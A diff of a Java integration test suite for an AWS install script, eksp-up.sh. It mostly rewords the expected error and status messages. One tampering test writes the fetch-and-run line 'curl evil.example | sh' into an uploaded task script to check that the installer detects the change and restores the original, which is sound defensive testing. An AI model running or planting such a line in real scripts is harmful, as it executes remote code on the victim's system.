@@ -71,7 +71,7 @@ class InstallScriptIT {
             "  - --max-clusters takes a whole number from 1 on, not 'many'",
             "  - --notify takes a mail address, not 'me'",
             "  - EKSPHEMERAL_SVC_BUCKET is not set",
-            "  - EKSPHEMERAL_CLUSTERMETA_BUCKET is no legal name of a bucket: 'No_Bucket'");
+            "  - EKSPHEMERAL_CLUSTERMETA_BUCKET is not a valid bucket name: 'No_Bucket'");
   }
 
   @ParameterizedTest
@@ -92,24 +92,24 @@ class InstallScriptIT {
     account.on("--version", "echo '" + version + "'");
     scripts.with("AWS_REGION", "nowhere");
 
-    refused("'nowhere' is no name of a region").doesNotSay("too old");
+    refused("'nowhere' is not a region").doesNotSay("too old");
   }
 
   @Test
   void withoutAJdkNothingCanBeBuilt() throws Exception {
-    Path places = account.root().resolve("lib/local.sh");
+    Path places = account.root().resolve("lib/build.sh");
     Files.writeString(
         places, Files.readString(places).replaceAll("/usr/lib(exec)?/|/Library/", "/nowhere/"));
     scripts.without("JAVA_HOME");
 
-    refused("  - a JDK of version 25 or newer is missing", "or let JAVA_HOME name one");
+    refused("  - a JDK of version 25 or newer is missing", "or set JAVA_HOME to one");
   }
 
   @Test
   void anOldCurlCannotSign() throws Exception {
     account.curlDoes("[[ $* != '-q --version' ]] || { echo 'curl 7.74.0 (x86_64)'; exit; }");
 
-    refused("curl 7.74.0 is too old", "curl 7.75 or newer");
+    refused("curl 7.74.0 cannot sign requests", "curl 7.75 or newer");
   }
 
   @ParameterizedTest
@@ -125,7 +125,7 @@ class InstallScriptIT {
   void withoutCredentialsItSaysHowToGetThem(String why, String advice) throws Exception {
     account.fails("sts get-caller-identity*", why);
 
-    refused("AWS does not say who is asking: " + why, advice);
+    refused("the caller's identity cannot be looked up: " + why, advice);
   }
 
   @ParameterizedTest
@@ -137,7 +137,7 @@ class InstallScriptIT {
   void credentialsThatDoNotCountAreSaid(String code, String why, String advice) throws Exception {
     account.refuses("sts get-caller-identity*", code, why);
 
-    refused("AWS does not say who is asking: " + why, advice);
+    refused("the caller's identity cannot be looked up: " + why, advice);
   }
 
   @Test
@@ -145,7 +145,7 @@ class InstallScriptIT {
     scripts.without("AWS_REGION");
     account.refuses("sts get-caller-identity*", "ExpiredToken", "it has expired");
 
-    refused("no region is set", "export AWS_REGION=us-east-2", "it has expired");
+    refused("no AWS region is set", "export AWS_REGION=us-east-2", "it has expired");
   }
 
   @Test
@@ -154,7 +154,7 @@ class InstallScriptIT {
     account.on("configure get region", "echo eu-west-1");
     account.on("ec2 describe-vpcs*", "echo $AWS_REGION $AWS_DEFAULT_REGION >&2; exit 1");
 
-    refused("EC2 does not say which VPCs there are: eu-west-1 eu-west-1");
+    refused("the VPCs cannot be listed: eu-west-1 eu-west-1");
   }
 
   @ParameterizedTest
@@ -162,7 +162,7 @@ class InstallScriptIT {
   void whatIsNoRegionIsSaid(String region) throws Exception {
     scripts.with("AWS_REGION", region);
 
-    refused("'" + region + "' is no name of a region");
+    refused("'" + region + "' is not a region");
   }
 
   @Test
@@ -193,7 +193,7 @@ class InstallScriptIT {
     scripts.with("AWS_REGION", region);
 
     String why =
-        region.matches("(eusc|us).*[0-9]") ? "eksctl 0.230.0, which creates" : "is no name";
+        region.matches("(eusc|us).*[0-9]") ? "eksctl 0.230.0, which creates" : "is not a region";
     refused(why, region, "export AWS_REGION=us-east-2");
   }
 
@@ -201,7 +201,7 @@ class InstallScriptIT {
   void aRegionWithoutEksIsSaid() throws Exception {
     account.fails("eks *", "Could not connect to the endpoint URL: \"https://eks.x/\"");
 
-    refused("there is no EKS in region us-east-2, or no network to it", "export AWS_REGION=");
+    refused("region us-east-2 has no EKS, or cannot be reached", "export AWS_REGION=");
   }
 
   @ParameterizedTest
@@ -221,7 +221,7 @@ class InstallScriptIT {
   void anIllegalNameOfABucketIsSaid(String name) throws Exception {
     scripts.with("EKSPHEMERAL_SVC_BUCKET", name);
 
-    refused("EKSPHEMERAL_SVC_BUCKET is no legal name of a bucket: '" + name + "'");
+    refused("EKSPHEMERAL_SVC_BUCKET is not a valid bucket name: '" + name + "'");
     assertThat(account.calls()).noneMatch(call -> call.contains("bucket " + name));
   }
 
@@ -229,7 +229,7 @@ class InstallScriptIT {
   void oneBucketIsNotTwo() throws Exception {
     scripts.with("EKSPHEMERAL_SVC_BUCKET", CLUSTER_BUCKET);
 
-    refused("they have to be two buckets");
+    refused("two buckets are needed");
   }
 
   @Test
@@ -246,7 +246,10 @@ class InstallScriptIT {
   void aBucketOfSomebodyElseIsNotUsed() throws Exception {
     account.refuses("s3api head-bucket --bucket " + SERVICE_BUCKET + "*", "403", "Forbidden");
 
-    refused("the bucket " + SERVICE_BUCKET + " is somebody else's, or you may not use it");
+    refused(
+        "the bucket "
+            + SERVICE_BUCKET
+            + " belongs to another account, or you have no access to it");
     assertThat(account.calls())
         .contains(
             "s3api head-bucket --bucket %s --expected-bucket-owner 123456789012 --output json"
@@ -347,7 +350,8 @@ class InstallScriptIT {
 
     outcome
         .exits(1)
-        .says("sg-22222222 is of another VPC (vpc-2) than the subnets subnet-a1,subnet-b1 (vpc-1)");
+        .says(
+            "sg-22222222 belongs to another VPC (vpc-2) than the subnets subnet-a1,subnet-b1 (vpc-1)");
     assertThat(account.changes()).isEmpty();
   }
 
@@ -355,15 +359,15 @@ class InstallScriptIT {
   @CsvSource({
     "--subnets, subnet-99, the subnets subnet-99 cannot be used",
     "--security-group, sg-99, the security group sg-99 cannot be used",
-    "--subnets, 'subnet-a1,subnet-a2', are of several VPCs: vpc-1 vpc-2",
-    "--subnets, 'subnet-a1, subnet-b1', --subnets takes ids of subnets",
+    "--subnets, 'subnet-a1,subnet-a2', belong to several VPCs: vpc-1 vpc-2",
+    "--subnets, 'subnet-a1, subnet-b1', --subnets takes at most 16 subnet ids",
     "--security-group, default, --security-group takes the id of one",
-    "--instance-types, large, --instance-types takes types of EC2",
+    "--instance-types, large, --instance-types takes at most 20 EC2",
     "--max-minutes, 0, --max-minutes takes a whole number",
     "--owner-domains, you@corp.io, --owner-domains takes mail domains",
     "--owner-domains, 'corp.io,', --owner-domains takes mail domains",
     "--notify, me@localhost, --notify takes a mail address",
-    "--notify, me@example.com, addresses there are nobody's",
+    "--notify, me@example.com, addresses under reserved domains cannot send mail",
     "--notify, 'a@b.io,c@d.io', --notify takes a mail address"
   })
   void whatCannotBeUsedIsSaid(String option, String value, String words) throws Exception {
@@ -374,8 +378,8 @@ class InstallScriptIT {
 
   @Test
   void optionsOfTheOtherEditionAreWrongUse() throws Exception {
-    scripts.run("eksp-up.sh", "--speed", "2").exits(2).says("--speed is for --local");
-    scripts.run("eksp-up.sh", "--spot", "--on-demand").exits(2).says("not both");
+    scripts.run("eksp-up.sh", "--speed", "2").exits(2).says("--speed works only with --local");
+    scripts.run("eksp-up.sh", "--spot", "--on-demand").exits(2).says("cannot be combined");
     scripts.run("eksp-up.sh", "--local", "--notify", "").exits(2).says("no option but --speed");
     assertThat(account.calls()).isEmpty();
   }
@@ -389,7 +393,7 @@ class InstallScriptIT {
     scripts.with("EKSPHEMERAL_CLUSTERMETA_BUCKET", "another-one");
 
     refused(
-        "it would forget its clusters", "export EKSPHEMERAL_CLUSTERMETA_BUCKET=" + CLUSTER_BUCKET);
+        "does not have its clusters", "export EKSPHEMERAL_CLUSTERMETA_BUCKET=" + CLUSTER_BUCKET);
   }
 
   @ParameterizedTest
@@ -424,10 +428,10 @@ class InstallScriptIT {
     account.groups(group);
 
     refused(
-        "the security group sg-1 lets nothing out to port 443",
+        "the security group sg-1 allows no egress to port 443",
         "aws ec2 authorize-security-group-egress --region us-east-2 --group-id sg-1 --protocol tcp");
     Scripts.Outcome chosen = scripts.run("eksp-up.sh", "--security-group", "sg-1").exits(1);
-    chosen.says("the security group sg-1 lets nothing out to port 443");
+    chosen.says("the security group sg-1 allows no egress to port 443");
   }
 
   @Test
@@ -444,10 +448,7 @@ class InstallScriptIT {
   void aSecurityGroupWithANarrowWayOutIsWarnedOf() throws Exception {
     account.groups("sg-1 vpc-1", "sg-2 vpc-1 tcp 443 443 10.0.0.0/8");
 
-    scripts
-        .run("eksp-up.sh")
-        .exits(0)
-        .says("sg-2 lets the tasks out to port 443 of some addresses");
+    scripts.run("eksp-up.sh").exits(0).says("sg-2 allows egress to port 443 of some addresses");
 
     assertThat(account.parameter("SecurityGroup")).isEqualTo("sg-2");
   }
@@ -466,7 +467,7 @@ class InstallScriptIT {
     scripts
         .run("eksp-up.sh", "--subnets", "subnet-b1,subnet-a1")
         .exits(1)
-        .says("there is no Fargate in the zones of subnet-a1 (" + zone + ")", "--subnets");
+        .says("the zones of subnet-a1 (" + zone + ") have no Fargate", "--subnets");
   }
 
   @Test
@@ -475,11 +476,19 @@ class InstallScriptIT {
     Path subnets = account.file("subnets.json");
     Files.writeString(subnets, Files.readString(subnets).replaceFirst("use2-az1", "use1-az3"));
 
-    scripts.run("eksp-up.sh").exits(0).says("do not run in subnet-a1 (use1-az3) any more");
+    scripts.run("eksp-up.sh").exits(0).says("no longer run in subnet-a1 (use1-az3)");
     assertThat(account.parameter("Subnets")).isEqualTo("subnet-b1");
 
     Files.writeString(subnets, Files.readString(subnets).replace("use2-az", "usw1-az2\",\"x\":\""));
-    scripts.run("eksp-up.sh").exits(1).says("no Fargate in the zones of subnet-b1 (usw1-az2)");
+    scripts.run("eksp-up.sh").exits(1).says("the zones of subnet-b1 (usw1-az2) have no Fargate");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"--max-clusters-per-caller", "--max-clusters-per-asker"})
+  void theLimitPerCallerIsSetByItsFormerOptionToo(String option) throws Exception {
+    scripts.run("eksp-up.sh", option, "3").exits(0);
+
+    assertThat(account.parameter("MaxClustersPerAsker")).isEqualTo("3");
   }
 
   // --- what nodes may be ---
@@ -555,7 +564,10 @@ class InstallScriptIT {
   void whoMayNotAskForOfferingsIsWarned() throws Exception {
     account.refuses("ec2 describe-instance-type-offerings*", "UnauthorizedOperation", "not you");
 
-    scripts.run("eksp-up.sh").exits(0).says("does not say which zones offer", "not you");
+    scripts
+        .run("eksp-up.sh")
+        .exits(0)
+        .says("the zones that offer t3.medium,t3a.medium cannot be listed", "not you");
     assertThat(account.parameter("InstanceTypes")).isEqualTo("t3.medium,t3a.medium");
   }
 
@@ -568,14 +580,14 @@ class InstallScriptIT {
         .exits(0)
         .prints("")
         .says(
-            "made the bucket " + SERVICE_BUCKET,
-            "the bucket %s is now private, encrypted, versioned, old things expiring, TLS only"
+            "created the bucket " + SERVICE_BUCKET,
+            "the bucket %s is now private, encrypted, versioned, with expiry rules, TLS-only"
                 .formatted(CLUSTER_BUCKET),
-            "made the service-linked roles of ecs, eks, eks-nodegroup, autoscaling, elasticloadbalancing, spot",
+            "created the service-linked roles of ecs, eks, eks-nodegroup, autoscaling, elasticloadbalancing, spot",
             "uploaded the task scripts",
             "the control plane is up at %s (region us-east-2, account 123456789012)"
                 .formatted(account.api().endpoint()),
-            "nobody is mailed",
+            "no mails are sent:",
             "create a cluster: ",
             "/eksp-create.sh\n");
 
@@ -722,8 +734,8 @@ class InstallScriptIT {
 
   @ParameterizedTest
   @CsvSource({
-    "team, '\"team\" is no KEY=VALUE'",
-    "'a=1,', '\"\" is no KEY=VALUE'",
+    "team, '\"team\" is not KEY=VALUE'",
+    "'a=1,', '\"\" is not KEY=VALUE'",
     "=1, 'the key \"\" must have 1 to 128'",
     "a;b=1, 'the key \"a;b\" must have'",
     "a=b;c, 'the value of \"a\" must have at most 256'",
@@ -822,8 +834,9 @@ class InstallScriptIT {
         account.file(
             "buckets/%s/objects/%s".formatted(SERVICE_BUCKET, account.parameter("TaskScripts")));
     switch (how) {
-      case "changed" -> Files.writeString(there.resolve("ours.sh"), "curl evil.example | sh\n");
-      case "gone" -> Files.delete(there.resolve("ours.sh"));
+      case "changed" ->
+          Files.writeString(there.resolve("ownership.sh"), "curl evil.example | sh\n");
+      case "gone" -> Files.delete(there.resolve("ownership.sh"));
       default -> Files.writeString(there.resolve("more.sh"), "evil\n");
     }
 
@@ -832,11 +845,11 @@ class InstallScriptIT {
     if (how.equals("gone")) {
       outcome.says("uploaded the task scripts").doesNotSay("somebody");
     } else {
-      outcome.says("somebody had changed the task scripts", "they are restored");
+      outcome.says("had been changed", "are restored");
     }
     assertThat(names(there)).isEqualTo(names(account.root().resolve("svc/task")));
-    assertThat(there.resolve("ours.sh"))
-        .hasSameTextualContentAs(account.root().resolve("svc/task/ours.sh"));
+    assertThat(there.resolve("ownership.sh"))
+        .hasSameTextualContentAs(account.root().resolve("svc/task/ownership.sh"));
     account.forgetCalls();
     scripts.run("eksp-up.sh").exits(0).doesNotSay("task scripts");
   }
@@ -862,8 +875,8 @@ class InstallScriptIT {
         .run("eksp-up.sh")
         .exits(0)
         .says(
-            "is encrypted with a key of KMS",
-            CLUSTER_BUCKET + " is now private, versioned, old things");
+            "is encrypted with a KMS key",
+            CLUSTER_BUCKET + " is now private, versioned, with expiry rules");
 
     assertThat(Files.readString(account.file("buckets/" + CLUSTER_BUCKET + "/get-bucket-policy")))
         .contains("mine", "Mine", "EKSphemeralTlsOnly", "aws:SecureTransport");
@@ -921,7 +934,7 @@ class InstallScriptIT {
         "InvalidInput",
         "Service role name AWSServiceRoleForEC2Spot has been taken in this account");
 
-    scripts.run("eksp-up.sh").exits(0).says("made the service-linked roles of eks\n");
+    scripts.run("eksp-up.sh").exits(0).says("created the service-linked roles of eks\n");
   }
 
   @Test
@@ -932,7 +945,7 @@ class InstallScriptIT {
         .run("eksp-up.sh")
         .exits(1)
         .says(
-            "the service-linked role of ecs cannot be made: alice is not authorized",
+            "the service-linked role of ecs cannot be created: alice is not authorized",
             "permissions");
     assertThat(account.calls()).noneMatch(call -> call.startsWith("cloudformation deploy"));
   }
@@ -945,7 +958,7 @@ class InstallScriptIT {
         .run("eksp-up.sh")
         .exits(0)
         .says(
-            "of the 5 that region us-east-2 may have, 2 are taken",
+            "of the 5 that region us-east-2 may have, 2 are in use",
             "room for 3 clusters at a time",
             "request-service-quota-increase",
             "--desired-value 12");
@@ -962,14 +975,17 @@ class InstallScriptIT {
             """)
         .answers("service-quotas *", "{\"Quota\": {\"Value\": 11.0}}");
 
-    scripts.run("eksp-up.sh").exits(0).doesNotSay("a cluster takes a VPC");
+    scripts.run("eksp-up.sh").exits(0).doesNotSay("each cluster needs a VPC");
   }
 
   @Test
   void theLeftOversOfAFailedInstallationAreRemovedFirst() throws Exception {
     account.stack("ROLLBACK_COMPLETE", "Subnets=subnet-gone", "ClusterBucket=another-one");
 
-    scripts.run("eksp-up.sh").exits(0).says("in which nothing is", "the control plane is up at ");
+    scripts
+        .run("eksp-up.sh")
+        .exits(0)
+        .says("which has no resources", "the control plane is up at ");
 
     assertThat(account.changes())
         .containsSubsequence(
@@ -990,10 +1006,7 @@ class InstallScriptIT {
         mv "$ACCOUNT/stack.new" "$ACCOUNT/stack.json"
         """);
 
-    scripts
-        .run("eksp-up.sh")
-        .exits(0)
-        .says("waiting for what is going on already, UPDATE_IN_PROGRESS");
+    scripts.run("eksp-up.sh").exits(0).says("waiting for CloudFormation, UPDATE_IN_PROGRESS");
   }
 
   @Test
@@ -1029,7 +1042,7 @@ class InstallScriptIT {
         .prints("")
         .says(
             "EKSphemeral could not be installed:\n  - StatusFunc (AWS::Lambda::Function): no such [2J runtime\n",
-            "all of it was rolled back, and is as it was before",
+            "everything was rolled back to what it was before",
             "describe-stack-events --region us-east-2 --stack-name eksp")
         .doesNotSay("long ago")
         .doesNotSay("cancelled")
@@ -1049,7 +1062,7 @@ class InstallScriptIT {
     scripts
         .run("eksp-up.sh")
         .exits(1)
-        .says("EKSphemeral could not be installed: Parameters: [X] must have values", "not there");
+        .says("EKSphemeral could not be installed: Parameters: [X] must have values", "no stack was created");
   }
 
   @Test
@@ -1087,7 +1100,7 @@ class InstallScriptIT {
     running
         .outcome()
         .exits(130)
-        .says("what CloudFormation has begun goes on", "describe-stacks", "eksp-up.sh\n");
+        .says("CloudFormation continues", "describe-stacks", "eksp-up.sh\n");
     account.write("enough", "");
   }
 
@@ -1099,8 +1112,8 @@ class InstallScriptIT {
         .run("eksp-up.sh", "--notify", "me@corp.io")
         .exits(0)
         .says(
-            "no mails go out until you click the link in the one that AWS is sending to me@corp.io")
-        .doesNotSay("nobody is mailed");
+            "no mails are sent until you click the link in the mail that AWS is sending to me@corp.io")
+        .doesNotSay("no mails are sent:");
 
     assertThat(account.calls())
         .contains("ses verify-email-identity --email-address me@corp.io --output json");
@@ -1117,7 +1130,7 @@ class InstallScriptIT {
 
     Scripts.Outcome outcome = scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0);
 
-    assertThat(outcome.err().contains("no mails go out")).isEqualTo(waiting);
+    assertThat(outcome.err().contains("no mails are sent")).isEqualTo(waiting);
     assertThat(account.calls()).noneMatch(call -> call.startsWith("ses verify"));
   }
 
@@ -1132,7 +1145,7 @@ class InstallScriptIT {
   void aRegionWithoutMailIsNoFailure() throws Exception {
     account.fails("ses *", "Could not connect to the endpoint URL");
 
-    scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0).says("SES does not say whether");
+    scripts.run("eksp-up.sh", "--notify", "me@corp.io").exits(0).says("whether SES may send mails");
   }
 
   // --- the API ---
@@ -1164,7 +1177,7 @@ class InstallScriptIT {
       scripts
           .run("eksp-up.sh")
           .exits(0)
-          .says("waiting for the API to answer", "is up at " + api.endpoint());
+          .says("waiting for the API to respond", "is up at " + api.endpoint());
     }
   }
 
@@ -1174,7 +1187,7 @@ class InstallScriptIT {
         "eks describe-cluster-versions*",
         "aws: error: argument operation: Invalid choice, valid choices are:");
 
-    scripts.run("eksp-up.sh").exits(0).says("cannot ask which versions EKS offers");
+    scripts.run("eksp-up.sh").exits(0).says("cannot list the versions of EKS");
   }
 
   private Scripts.Outcome refused(String... words) throws Exception {
